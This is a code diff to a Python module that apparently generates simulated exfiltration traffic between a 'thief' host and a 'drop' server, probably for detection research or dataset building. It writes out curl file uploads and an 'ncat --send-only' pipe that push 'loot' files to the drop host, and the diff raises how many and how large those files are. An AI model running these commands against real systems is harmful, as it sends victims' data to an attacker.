@@ -24,8 +24,8 @@ def _upload(job, service):
     port = drop.services[service]
     slow = job.rng.choice(([], [], ["--limit-rate", f"{job.rng.randint(30, 400)}k"]))
     with job.claim(thief, drop, port=port):
-        for _ in range(job.rng.randint(1, 4)):
-            job.run(thief, [*CURL, *slow, "-T", _loot(job), f"{'https' if service == 'tls' else 'http'}://{drop.v4}:{port}/app/upload"], 20)
+        for _ in range(job.rng.randint(2, 8)):
+            job.run(thief, [*CURL, *slow, "-T", _loot(job, 100_000, 4_000_000), f"{'https' if service == 'tls' else 'http'}://{drop.v4}:{port}/app/upload"], 20)
             if not job.sleep(job.rng.uniform(0, 3)):
                 break
 
@@ -69,8 +69,8 @@ def raw_upload(job):
     server = job.start(drop, ["ncat", "-4", "-l", "-k", "-p", port, "--recv-only", "-o", "/dev/null"])
     job.sleep(0.3)
     try:
-        with job.claim(thief, drop, port=port):
-            for _ in range(job.rng.randint(1, 3)):
+        with job.claim(thief, drop, port=port, forever=True):
+            for _ in range(job.rng.randint(1, 4)):
                 job.run(thief, ["sh", "-c", f"ncat -4 --send-only {drop.v4} {port} <{_loot(job)}"], 15)
                 job.sleep(job.rng.uniform(0.2, 2))
     finally:
